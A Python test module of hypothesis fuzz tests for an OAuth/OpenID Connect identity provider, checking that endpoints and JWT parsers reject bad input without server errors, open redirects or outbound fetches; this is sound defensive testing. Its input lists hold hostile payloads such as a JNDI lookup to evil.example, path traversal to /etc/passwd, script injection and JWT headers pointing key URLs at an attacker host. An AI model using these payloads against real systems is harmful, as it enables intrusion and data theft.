"""Bad input at scale (issue 10): property-based tests with hypothesis.

Over authorize, token, introspection, revocation (and PAR and device
authorization, which share their client authentication), registration, the
agreements API and userinfo, arbitrary parameters, headers and bodies never give a 5xx,
never a Location to anywhere but the IdP itself or the client's registered
redirect URI, and never a Python traceback in the body. Garbled JWTs (request
objects, client assertions, DPoP proofs, id_token_hint) get a 4xx in the
protocol's format, and the IdP never fetches a URL a JWT header names.

Bounded and reproducible: derandomize=True, at most 60 examples a property,
no deadline (the first request of a run warms caches).
"""

from __future__ import annotations

import base64
import json
import re
import time
from urllib.parse import urlencode, urlsplit

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from joserfc import jwt as jose_jwt
from joserfc.jwk import RSAKey
from werkzeug.datastructures import MultiDict

from idp.clients import service as clients
from tests.conftest import ISSUER
from tests.helpers.factories import Factory, unique
from tests.protocol.test_agreements_authorize import add_agreement, agreement_rp, sign_in_with
from tests.protocol.test_registration import issue_token

FUZZ = settings(max_examples=60, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])
SMALL = settings(FUZZ, max_examples=40)
REDIRECT = "https://rp.example/cb"
ASSERTION_TYPE = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"
RP_KEY = RSAKey.generate_key(2048, parameters={"kid": "fuzz-rp-1"})
TRACEBACK = re.compile(r"Traceback \(most recent call last\)|File \"[^\"]+\.py\", line \d+|"
                       r"sqlalchemy\.exc\.|psycopg\.|werkzeug\.exceptions\.|KeyError|AttributeError|TypeError")


# -- the world the fuzzing happens in ---------------------------------------------------------------------


class World:
    pass


@pytest.fixture(scope="module")
def world(app):
    session = app.extensions["idp"].db.session_factory()
    runtime = app.extensions["idp"]
    factory = Factory(app, session)
    w = World()
    browser = app.test_client()
    product = factory.product()
    w.identity = factory.identity()
    agreement = add_agreement(session, product, w.identity)
    rp = agreement_rp(browser, factory, product=product)
    w.client_id, w.secret = rp.client_id, rp.client_secret
    params = sign_in_with(rp, w.identity, agreement.number)
    body = rp.token(params["code"]).get_json()
    w.access_token, w.refresh_token, w.id_token = body["access_token"], body["refresh_token"], body["id_token"]
    jwt_client, _ = clients.create_client(
        session, client_name=unique("Fuzz JWT client"), redirect_uris=[REDIRECT], client_id=unique("jwt-client"),
        scope="openid profile", token_endpoint_auth_method="private_key_jwt",
        grant_types=["client_credentials", "authorization_code"],
        metadata={"jwks": {"keys": [RP_KEY.as_dict(private=False)]}}, cipher=runtime.cipher)
    w.jwt_client_id = jwt_client.client_id
    w.initial_token = issue_token(app)[1]
    w.kid = json.loads(base64.urlsafe_b64decode(w.id_token.split(".")[0] + "==")).get("kid")
    session.close()
    return w


@pytest.fixture(scope="module")
def browser(app):
    return app.test_client()


@pytest.fixture
def no_outbound(monkeypatch):
    """Record (and refuse) every outgoing HTTP request made through requests."""
    calls = []

    def refuse(self, method, url, *args, **kwargs):
        calls.append(url)
        raise requests.ConnectionError(f"fuzz tests make no outgoing requests ({url})")

    monkeypatch.setattr(requests.sessions.Session, "request", refuse)
    return calls


# -- strategies -------------------------------------------------------------------------------------------

HOSTILE_TEXT = ["", " ", "\x00", "\r\n", "%00", "%", "%%", "\\", "'", '"', "<script>alert(1)</script>", "{{7*7}}",
                "${jndi:ldap://evil.example/a}", "../../etc/passwd", "//evil.example", "https://evil.example/cb",
                "javascript:alert(1)", "data:text/html,x", "a" * 3000, "null", "[]", "{}", "0", "-1",
                "99999999999999999999999", "1e309", "NaN", "true", "é", "\u202e", "\ufeff", "😀", "openid",
                "openid openid", "code", "none", "S256", "plain", REDIRECT, REDIRECT + "?x=1", "eyJhbGciOiJub25lIn0..",
                "a.b.c", "...."]
short_text = st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE_TEXT))
header_text = st.one_of(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=80),
                        st.sampled_from(["Bearer", "Bearer ", "Basic", "Basic ====", "Basic Og==", "DPoP x",
                                         "Bearer a.b.c", "Basic " + base64.b64encode(b"\xff\xfe:x").decode()]))


def params_over(names: list[str]):
    keys = st.one_of(st.sampled_from(names), st.text(min_size=1, max_size=12))
    values = st.one_of(short_text, st.lists(short_text, min_size=2, max_size=3))
    return st.dictionaries(keys, values, max_size=8)


def flatten(params: dict) -> list[tuple[str, str]]:
    pairs = []
    for key, value in params.items():
        for item in (value if isinstance(value, list) else [value]):
            pairs.append((key, item))
    return pairs


json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(min_value=-2**70, max_value=2**70),
              st.floats(allow_nan=False, allow_infinity=False), short_text),
    lambda children: st.one_of(st.lists(children, max_size=4), st.dictionaries(short_text, children, max_size=4)),
    max_leaves=12)


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _segment(value) -> str:
    return b64url(json.dumps(value).encode()) if not isinstance(value, bytes) else b64url(value)


@st.composite
def garbled_jwt(draw, base: str | None = None):
    """Strings shaped more or less like a JWT: the kinds of damage a parser meets."""
    kind = draw(st.sampled_from(["text", "segments", "structured", "mutated", "truncated"] if base else
                                ["text", "segments", "structured"]))
    if kind == "text":
        return draw(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=200))
    if kind == "segments":
        parts = draw(st.lists(st.binary(max_size=60), min_size=1, max_size=6))
        return ".".join(b64url(p) for p in parts)
    if kind == "structured":
        header = draw(st.fixed_dictionaries(
            {"alg": st.sampled_from(["none", "None", "HS256", "RS256", "ES256", "PS256", "EdDSA", "RSA-OAEP", "",
                                     "A256GCM", "dir"])},
            optional={"kid": st.one_of(short_text, st.just("fuzz-rp-1")), "typ": st.sampled_from(
                ["JWT", "dpop+jwt", "at+jwt", "oauth-authz-req+jwt", "logout+jwt", "x"]),
                "jwk": st.one_of(json_values, st.just({"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}),
                                 st.just({"kty": "oct", "k": "AAAA"})),
                "jku": st.just("https://evil.example/jwks"), "x5u": st.just("https://evil.example/x5u"),
                "crit": st.lists(short_text, max_size=2), "enc": short_text, "zip": st.just("DEF")}))
        claims = draw(st.one_of(json_values, st.fixed_dictionaries({}, optional={
            name: json_values for name in ("iss", "sub", "aud", "exp", "iat", "nbf", "jti", "htm", "htu", "ath",
                                           "nonce", "client_id", "redirect_uri", "request", "scope", "sid")})))
        signature = draw(st.one_of(st.just(b""), st.binary(max_size=64)))
        extra = draw(st.sampled_from(["", "", ".", ".x"]))
        return f"{_segment(header)}.{_segment(claims)}.{b64url(signature)}{extra}"
    if kind == "mutated":
        position = draw(st.integers(min_value=0, max_value=len(base) - 1))
        replacement = draw(st.sampled_from(list("AaZz09-_.=+/ ") + [""]))
        return base[:position] + replacement + base[position + 1:]
    cut = draw(st.integers(min_value=0, max_value=len(base)))
    return base[:cut]


def same_jwt(candidate: str, original: str) -> bool:
    """True when ``candidate`` decodes to the very bytes of ``original`` (a harmless mutation)."""
    def decoded(token):
        try:
            return [base64.urlsafe_b64decode(p + "=" * (-len(p) % 4)) for p in token.split(".")]
        except (ValueError, TypeError):
            return None

    return candidate.count(".") == original.count(".") and decoded(candidate) == decoded(original) is not None


# -- assertions -------------------------------------------------------------------------------------------


def same_site_or_registered(location: str, registered: tuple[str, ...] = (REDIRECT,)) -> bool:
    if re.search(r"[\x00-\x20\\]", location):
        return False
    parts = urlsplit(location)
    if not parts.scheme and not parts.netloc and location.startswith("/") and not location.startswith("//"):
        return True
    if f"{parts.scheme}://{parts.netloc}" == ISSUER:
        return True
    return any((parts.scheme, parts.netloc, parts.path) == urlsplit(r)[:3] for r in registered)


def assert_sane(response, what, *, json_api: bool):
    body = response.get_data(as_text=True)
    assert response.status_code < 500, (what, response.status_code, body[:300])
    assert not TRACEBACK.search(body), (what, body[:500])
    location = response.headers.get("Location")
    if location is not None:
        assert same_site_or_registered(location), (what, location)
    if json_api and response.status_code >= 400 and response.status_code != 405:
        assert response.mimetype == "application/json", (what, response.status_code, response.mimetype, body[:200])
        error = response.get_json()
        assert isinstance(error, dict) and isinstance(error.get("error"), str), (what, body[:200])


def basic(client_id: str, secret: str) -> str:
    return "Basic " + base64.b64encode(f"{client_id}:{secret}".encode()).decode()


# -- authorize ------------------------------------------------------------------------------------------

AUTHZ_PARAMS = ["response_type", "client_id", "redirect_uri", "scope", "state", "nonce", "prompt", "max_age",
                "ui_locales", "id_token_hint", "login_hint", "acr_values", "claims", "request", "request_uri",
                "response_mode", "code_challenge", "code_challenge_method", "display", "agreement_hint", "resource",
                "authorization_details", "dpop_jkt", "registration"]


@FUZZ
@given(params=params_over(AUTHZ_PARAMS), base=st.booleans(), method=st.sampled_from(["GET", "POST"]))
def test_authorize_never_fails_or_redirects_elsewhere(world, browser, params, base, method):
    query = {"response_type": "code", "client_id": world.client_id, "redirect_uri": REDIRECT,
             "scope": "openid agreement"} if base else {}
    pairs = [(k, v) for k, v in query.items() if k not in params] + flatten(params)
    if method == "GET":
        response = browser.get("/authorize?" + urlencode(pairs))
    else:
        response = browser.post("/authorize", data=MultiDict(pairs))
    assert_sane(response, ("authorize", pairs), json_api=False)


# -- token, introspection, revocation -------------------------------------------------------------------

TOKEN_PARAMS = ["grant_type", "code", "redirect_uri", "code_verifier", "refresh_token", "scope", "client_id",
                "client_secret", "client_assertion_type", "client_assertion", "subject_token", "subject_token_type",
                "actor_token", "actor_token_type", "requested_token_type", "audience", "resource", "device_code",
                "token", "token_type_hint"]
GRANTS = ["authorization_code", "refresh_token", "client_credentials", "urn:ietf:params:oauth:grant-type:device_code",
          "urn:ietf:params:oauth:grant-type:token-exchange", "password", "implicit", ""]


@st.composite
def client_auth(draw, world):
    kind = draw(st.sampled_from(["none", "valid", "wrong secret", "random"]))
    if kind == "valid":
        return {"Authorization": basic(world.client_id, world.secret)}
    if kind == "wrong secret":
        return {"Authorization": basic(world.client_id, draw(short_text.filter(lambda s: ":" not in s)))}
    if kind == "random":
        return {"Authorization": draw(header_text)}
    return {}


def _token_form(world, draw_params, grant):
    form = {"grant_type": grant}
    if grant == "refresh_token":
        form["refresh_token"] = world.refresh_token
    return [(k, v) for k, v in form.items() if k not in draw_params] + flatten(draw_params)


@FUZZ
@given(data=st.data(), params=params_over(TOKEN_PARAMS), grant=st.sampled_from(GRANTS))
def test_token_endpoint_answers_oauth_errors(world, browser, data, params, grant):
    headers = data.draw(client_auth(world))
    if data.draw(st.booleans()):
        headers["DPoP"] = data.draw(header_text)
    response = browser.post("/token", data=MultiDict(_token_form(world, params, grant)), headers=headers)
    assert_sane(response, ("token", params, headers), json_api=True)


@SMALL
@given(data=st.data(), params=params_over(["token", "token_type_hint", "client_id", "client_secret"]),
       endpoint=st.sampled_from(["/introspect", "/revoke", "/par", "/device_authorization"]))
def test_introspection_revocation_par_and_device(world, browser, data, params, endpoint):
    headers = data.draw(client_auth(world))
    # Never the module's own refresh token: revoking it would change the world for later examples.
    params = {k: v for k, v in params.items() if v != world.refresh_token}
    response = browser.post(endpoint, data=MultiDict(flatten(params)), headers=headers)
    assert_sane(response, (endpoint, params, headers), json_api=True)
    if endpoint == "/introspect" and response.status_code == 200:
        assert response.get_json().get("active") in (True, False)


MALFORMED_AUTHORIZATION = [" ", "Basic", "Basic ", "Basic  ", "Bearer", "Bearer ", "DPoP", "DPoP ", "Basic Og==",
                           "Basic ====", "Basic " + base64.b64encode(b"no-colon").decode(),
                           "Basic " + base64.b64encode(b"\xff\xfe:\xff").decode(), "Negotiate abc", "basic x y z",
                           "Bearer a b", ",", "Basic,Bearer"]
CLIENT_AUTH_ENDPOINTS = ["/token", "/introspect", "/revoke", "/par", "/device_authorization", "/userinfo",
                         "/register"]


@pytest.mark.parametrize("endpoint", CLIENT_AUTH_ENDPOINTS)
def test_malformed_authorization_headers(browser, endpoint):
    """Every shape of a broken Authorization header: an OAuth error, never a 500."""
    failures = []
    for header in MALFORMED_AUTHORIZATION:
        response = browser.post(endpoint, data={"token": "x", "grant_type": "client_credentials",
                                                "response_type": "code", "client_id": "x"},
                                headers={"Authorization": header})
        if response.status_code >= 500 or response.mimetype != "application/json":
            failures.append((header, response.status_code, response.get_data(as_text=True)[:80]))
    assert not failures, f"{endpoint}: {failures}"


# -- registration ---------------------------------------------------------------------------------------

METADATA = ["redirect_uris", "client_name", "grant_types", "response_types", "token_endpoint_auth_method",
            "application_type", "scope", "post_logout_redirect_uris", "jwks", "jwks_uri", "logo_uri", "contacts",
            "software_statement", "id_token_signed_response_alg", "backchannel_logout_uri",
            "frontchannel_logout_uri", "request_object_signing_alg", "sector_identifier_uri", "subject_type",
            "require_signed_request_object", "dpop_bound_access_tokens", "default_max_age", "client_uri"]
URIS = st.lists(st.one_of(st.sampled_from(["https://ok.example/cb", "http://127.0.0.1:9/cb", "com.example.app:/cb",
                                           "javascript:alert(1)", "data:text/html,x", "https://ok.example/cb#f",
                                           "http://ok.example/cb", "file:///etc/passwd", "//evil.example",
                                           "vbscript:x", "https://*.example/cb", ""]), short_text), max_size=3)
DANGEROUS_SCHEMES = {"javascript", "data", "vbscript", "file"}


@FUZZ
@given(body=st.one_of(
    st.fixed_dictionaries({"redirect_uris": URIS}, optional={name: json_values for name in METADATA
                                                             if name != "redirect_uris"}),
    st.fixed_dictionaries({}, optional={name: json_values for name in METADATA}),
    json_values), authorized=st.booleans())
def test_registration_with_arbitrary_json(world, browser, body, authorized):
    headers = {"Authorization": f"Bearer {world.initial_token}"} if authorized else {}
    response = browser.post("/register", json=body, headers=headers)
    assert_sane(response, ("register", body), json_api=True)
    if response.status_code == 201:
        registered = response.get_json()
        for uri in registered.get("redirect_uris", []) + registered.get("post_logout_redirect_uris", []):
            scheme = urlsplit(uri).scheme.lower()
            assert scheme not in DANGEROUS_SCHEMES and "#" not in uri, (body, uri)


@SMALL
@given(raw=st.one_of(st.binary(max_size=300), st.text(max_size=200).map(str.encode)),
       content_type=st.sampled_from(["application/json", "application/json; charset=utf-16", "text/plain",
                                     "application/x-www-form-urlencoded", "multipart/form-data", ""]))
def test_registration_with_arbitrary_bytes(world, browser, raw, content_type):
    response = browser.post("/register", data=raw, content_type=content_type or None,
                            headers={"Authorization": f"Bearer {world.initial_token}"})
    assert_sane(response, ("register bytes", raw[:50], content_type), json_api=True)


# -- agreements API and userinfo ---------------------------------------------------------------------

@FUZZ
@given(params=params_over(["q", "product", "cursor", "limit"]), valid=st.booleans(), auth=header_text)
def test_agreements_api(world, browser, params, valid, auth):
    headers = {"Authorization": f"Bearer {world.access_token}" if valid else auth}
    response = browser.get("/api/v1/me/agreements?" + urlencode(flatten(params)), headers=headers)
    assert_sane(response, ("agreements", params, headers), json_api=True)
    if valid and response.status_code == 200:
        assert set(response.get_json()) == {"items", "next_cursor"}


@FUZZ
@given(data=st.data(), method=st.sampled_from(["GET", "POST"]), valid=st.booleans(), auth=header_text,
       params=params_over(["access_token", "schema", "claims"]))
def test_userinfo(world, browser, data, method, valid, auth, params):
    headers = {"Authorization": f"Bearer {world.access_token}" if valid else auth}
    if data.draw(st.booleans()):
        headers["DPoP"] = data.draw(header_text)
    if method == "GET":
        response = browser.get("/userinfo?" + urlencode(flatten(params)), headers=headers)
    else:
        response = browser.post("/userinfo", data=MultiDict(flatten(params)), headers=headers)
    assert_sane(response, ("userinfo", headers, params), json_api=True)


# -- JWTs: request objects, client assertions, DPoP proofs, id_token_hint ------------------------------

@SMALL
@given(data=st.data())
def test_garbled_request_objects(world, browser, no_outbound, data):
    request_object = data.draw(garbled_jwt(world.id_token))
    query = {"response_type": "code", "client_id": world.client_id, "redirect_uri": REDIRECT, "scope": "openid",
             "state": "s", "request": request_object}
    response = browser.get("/authorize?" + urlencode(query))
    assert_sane(response, ("request object", request_object), json_api=False)
    assert response.status_code in (302, 400), response.status_code
    if response.status_code == 302 and response.location.startswith(REDIRECT):
        assert "error=" in response.location, ("a garbled request object was accepted", request_object)
    assert not [u for u in no_outbound if "evil" in u], no_outbound


@SMALL
@given(data=st.data(), with_client_id=st.booleans())
def test_garbled_client_assertions(world, browser, no_outbound, data, with_client_id):
    valid = jose_jwt.encode({"alg": "RS256", "kid": RP_KEY.kid}, {
        "iss": world.jwt_client_id, "sub": world.jwt_client_id, "aud": ISSUER + "/token", "jti": unique("j"),
        "iat": int(time.time()), "exp": int(time.time()) + 60}, RP_KEY, algorithms=["RS256"])
    assertion = data.draw(garbled_jwt(valid))
    form = {"grant_type": "client_credentials", "scope": "profile", "client_assertion_type": ASSERTION_TYPE,
            "client_assertion": assertion}
    if with_client_id:
        form["client_id"] = world.jwt_client_id
    response = browser.post("/token", data=form)
    assert_sane(response, ("client assertion", assertion), json_api=True)
    if not same_jwt(assertion, valid):
        assert 400 <= response.status_code < 500, ("a garbled assertion was accepted", assertion)
    assert not [u for u in no_outbound if "evil" in u], no_outbound


@SMALL
@given(data=st.data(), where=st.sampled_from(["token", "userinfo"]))
def test_garbled_dpop_proofs(world, browser, no_outbound, data, where):
    proof = data.draw(garbled_jwt())
    if where == "token":
        response = browser.post("/token", data={"grant_type": "client_credentials", "scope": "profile"},
                                headers={"Authorization": basic(world.client_id, world.secret), "DPoP": proof})
    else:
        response = browser.get("/userinfo", headers={"Authorization": f"DPoP {world.access_token}", "DPoP": proof})
    assert_sane(response, ("dpop", where, proof), json_api=True)
    assert 400 <= response.status_code < 500, ("a garbled DPoP proof was accepted", where, proof)
    assert not [u for u in no_outbound if "evil" in u], no_outbound


@SMALL
@given(data=st.data(), where=st.sampled_from(["logout", "authorize"]))
def test_garbled_id_token_hints(world, app, no_outbound, data, where):
    hint = data.draw(garbled_jwt(world.id_token))
    browser = app.test_client()
    if where == "logout":
        response = browser.get("/logout?" + urlencode({"id_token_hint": hint,
                                                       "post_logout_redirect_uri": "https://rp.example/bye"}))
        assert_sane(response, ("logout hint", hint), json_api=False)
        if hint.strip() and not same_jwt(hint, world.id_token):
            assert response.status_code == 400 and "Location" not in response.headers, (response.status_code, hint)
    else:
        response = browser.get("/authorize?" + urlencode({
            "response_type": "code", "client_id": world.client_id, "redirect_uri": REDIRECT, "scope": "openid",
            "prompt": "none", "id_token_hint": hint, "state": "s"}))
        assert_sane(response, ("authorize hint", hint), json_api=False)
        if response.status_code == 302 and response.location.startswith(REDIRECT):
            assert "error=" in response.location, ("prompt=none signed someone in from a hint alone", hint)
    assert not [u for u in no_outbound if "evil" in u], no_outbound
